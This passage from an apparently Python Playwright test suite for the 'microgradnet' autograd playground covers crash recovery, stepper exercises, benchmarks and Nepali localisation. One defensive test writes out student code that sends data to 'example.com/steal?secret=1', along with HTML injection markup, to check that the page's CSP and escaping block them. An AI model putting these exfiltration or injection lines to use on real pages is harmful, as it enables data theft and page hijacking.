    tab.page.fill("#pg-editor", "x = Value(0.0)\nfor i in range(30000):\n    x = x + 1\nx = Value(1.0)\n")
    tab.page.click("#pg-run")
    tab.page.wait_for_selector('html[data-pg-crashes="1"]', timeout=90_000)
    message = tab.text("#pg-message")
    assert "ran out of stack space and has been restarted" in message and "Maximum call stack" in message
    assert tab.page.get_attribute("html", "data-pg-ready") == "false"
    assert tab.text("#pg-status") == "Restarting Python…"
    tab.wait_ready()
    tab.page.fill("#pg-editor", "a = Value(2.0)\nb = Value(-3.0)\nL = a*b + a\n")
    tab.page.click("#pg-run")
    tab.wait_runs(3)
    assert tab.page.get_attribute("html", "data-pg-nodes") == "4" and tab.text("#pg-message") == ""
    tab.close()


def test_the_biggest_graph_stays_the_default_until_the_student_picks_one(browser: Any, base_url: str) -> None:
    # issue-13 audit 3b: the first answer's output used to become a fixed pick
    small = "a = Value(2.0)\nb = Value(-3.0)\nL = a*b + a\n"
    tab = Tab(browser, base_url + "index.html#code=" + quote(small))
    tab.page.click("#pg-run")
    tab.wait_runs(1)
    assert tab.page.get_attribute("html", "data-pg-nodes") == "4" and tab.page.input_value("#pg-output") == ""
    tab.page.fill("#pg-editor", small + "loss = L * L\n")
    tab.page.click("#pg-run")
    tab.wait_runs(2)
    assert tab.page.get_attribute("html", "data-pg-nodes") == "5" and "&out=" not in tab.page.url
    tab.page.fill("#pg-editor", small.replace("L", "M") + "loss = M * M\n")  # renaming works too
    tab.page.click("#pg-run")
    tab.wait_runs(3)
    assert tab.page.get_attribute("html", "data-pg-nodes") == "5" and tab.text("#pg-message") == ""
    # a pick the student makes is kept, and the link says it
    tab.page.select_option("#pg-output", "M")
    tab.wait_runs(4)
    assert tab.page.get_attribute("html", "data-pg-nodes") == "4" and "&out=M&" in tab.page.url
    tab.page.click("#pg-run")
    tab.wait_runs(5)
    assert (
        tab.page.input_value("#pg-output") == "M" and tab.page.get_attribute("html", "data-pg-nodes") == "4"
    )
    tab.close()


def test_a_link_opens_the_steppers_exercises(browser: Any, base_url: str) -> None:
    # issue 14's find-the-slip and faded pages, as `microgradnet step --bug/--seed/--fade` makes them
    formula = "index.html#expr=(a*b%2Bc)*f&a=2&b=-3&c=10&f=-2"
    tab = Tab(browser, base_url + formula + "&bug=random&seed=3")
    tab.wait_runs(1)
    assert tab.text("#pg-stepper .mg-title") == "Find the slip: Backpropagation through L = (a*b+c)*f"
    assert tab.page.locator("#pg-stepper .mg-find").is_visible()
    assert tab.page.url.endswith("&bug=random&seed=3")
    tab.page.evaluate("(f) => { location.hash = f + '&fade=2'; }", formula.split("#")[1])
    tab.wait_runs(2)
    assert not tab.page.locator("#pg-stepper .mg-find").is_visible()
    assert "R show the rule" in tab.text("#pg-stepper .mg-help") and tab.page.url.endswith("&fade=2")
    tab.page.evaluate("(f) => { location.hash = f + '&bug=sign'; }", formula.split("#")[1])  # no minus here
    tab.wait_runs(3)
    assert "does not fit this graph: cannot plant 'sign'" in tab.text("#pg-message")
    tab.close()


def test_student_code_cannot_reach_another_origin(browser: Any, base_url: str) -> None:
    # the worker inherits the page's CSP (connect-src 'self'): the browser refuses the request
    # before it leaves, so not even the test's router sees it
    code = (
        "import js\n"
        "x = js.XMLHttpRequest.new()\n"
        "x.open('GET', 'http://example.com/steal?secret=1', False)\n"
        "x.send()\n"
    )
    tab = Tab(browser, base_url + "index.html#code=" + quote(code))
    tab.page.click("#pg-run")
    tab.wait_runs(1)
    assert "NetworkError" in tab.text("#pg-message") and "line 4" in tab.text("#pg-message")
    assert [(u, tab.failed.get(u)) for u in tab.requests if "example.com" in u] == [
        ("http://example.com/steal?secret=1", "csp")
    ]
    # markup in a label or a title (even one student code forges into the page data) is shown as
    # text: it cannot navigate the page away or load anything
    bad = (
        '<meta http-equiv="refresh" content="0;url=http://example.org/"><img src="http://example.org/i.png">'
    )
    evil = (
        f"a = Value(2.0, label={bad!r})\n"
        "import microgradnet.viz.html as h\n"
        "plain = h.HtmlStepper.data\n"
        f"h.HtmlStepper.data = lambda self: dict(plain(self), title={bad!r})\n"
        "L = a * Value(3.0)\n"
    )
    tab.page.fill("#pg-editor", evil)
    tab.page.click("#pg-run")
    tab.wait_runs(2)
    tab.page.wait_for_timeout(500)
    assert tab.page.url.startswith(base_url) and tab.text("#pg-stepper .mg-title") == bad
    assert tab.node_text(bad, "data") is not None  # the label, as text
    assert tab.page.locator("#pg-stepper img, #pg-stepper meta").count() == 0
    assert not [u for u in tab.requests if "example.org" in u]
    tab.close()


def test_the_benchmarks_network_code_runs_and_steps_in_the_page(browser: Any, base_url: str) -> None:
    # benchmarks/playground.py times a 500-node graph; here a smaller one keeps the suite quick
    bench = _load("bench_playground", ROOT / "benchmarks" / "playground.py")
    tab = Tab(browser, base_url + "index.html#code=" + quote(bench.mlp_code(100)) + "&limit=60")
    tab.page.click("#pg-run")
    tab.wait_runs(1)
    assert 100 <= int(str(tab.page.get_attribute("html", "data-pg-nodes"))) < 140
    before = int(tab.text("#pg-stepper .mg-k"))
    times = bench.step_times(tab.page, 5)  # the benchmark's own measurement, run once here
    assert int(tab.text("#pg-stepper .mg-k")) == before + 5 and len(times["handled"]) == 5
    tab.close()


# what a page shows: visible text nodes, and the accessible names of the elements it draws (the
# approach of test_browser_exercises.py; a closed menu's options are not drawn, so the preset
# sources in the hidden examples menu, which cite English titles, are not counted)
SHOWN_TEXT = """() => {
  const out = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const el = n.parentElement;
    if (!el || el.closest('script, style, title') || !n.textContent.trim()) continue;
    if (!el.getClientRects().length || getComputedStyle(el).visibility === 'hidden') continue;
    out.push(n.textContent);
  }
  document.querySelectorAll('[aria-label], [title], [aria-valuetext]').forEach(el => {
    if (!el.getClientRects().length) return;
    ['aria-label', 'title', 'aria-valuetext'].forEach(a => {
      if (el.getAttribute(a)) out.push(el.getAttribute(a));
    });
  });
  out.push(document.title);
  return out;
}"""
# names of programs, keys and ops, and code, which stay as they are in any language
KEPT = {
    "microgradnet",
    "micrograd",
    "python",
    "pyodide",
    "webassembly",
    "ctrl",
    "enter",
    "tab",
    "esc",
    "space",
}
KEPT |= {"home", "end", "grad"} | set(microgradnet.OPS)


def test_a_nepali_link_shows_the_playground_and_its_stepper_in_nepali(browser: Any, base_url: str) -> None:
    from microgradnet.locales import FONT_FAMILY

    link = "index.html#expr=(a*b%2Bc)*f&a=2&b=-3&c=10&f=-2&step=9&lang=ne"
    csp: list[str] = []
    tab = Tab(browser, base_url + link)
    tab.page.on("console", lambda m: csp.append(m.text) if "Content Security Policy" in m.text else None)
    tab.wait_runs(1)
    assert tab.page.get_attribute("html", "lang") == "ne" and tab.text("#pg-stepper .mg-k") == "9"
    stepper = HtmlStepper(parse_expression("(a*b+c)*f", LECTURE), lang="ne")
    assert tab.text("#pg-stepper .mg-step-title") == stepper.steps[8]["title"]
    assert tab.text("h1") == "microgradnet प्लेग्राउन्ड" and tab.text("#pg-step") == "चरणैपिच्छे हेर्नुहोस्"
    shown = tab.page.evaluate(SHOWN_TEXT)
    code = {w for t in tab.page.locator("code").all_text_contents() for w in re.findall("[A-Za-z]{3,}", t)}
    words = {w.lower() for t in shown for w in re.findall("[A-Za-z]{3,}", t)} - {w.lower() for w in code}
    assert not words - KEPT, words - KEPT
    assert not any(re.search("[०-९]", t) for t in shown)  # Western digits, as the lesson writes them
    # the Devanagari font came from the site itself, under the page's CSP (font-src 'self')
    fonts = tab.page.evaluate(
        """async (family) => {
            await document.fonts.ready;
            return [...document.fonts].filter(f => f.family.replace(/"/g, '') === family).map(f => f.status);
        }""",
        FONT_FAMILY,
    )
    assert fonts == ["loaded"] and any("NotoSansDevanagari" in u for u in tab.requests) and csp == []
    # the language menu: back to English at once, the stepper made again at the same step
    tab.page.select_option("#pg-lang", "en")
    tab.wait_runs(2)
    assert tab.text("#pg-step") == "Step through" and tab.text("#pg-stepper .mg-k") == "9"
    assert tab.text("#pg-stepper .mg-title") == "Backpropagation through L = (a*b+c)*f"
    assert tab.page.url.endswith("&step=9") and tab.page.get_attribute("html", "lang") == "en"
    tab.close()
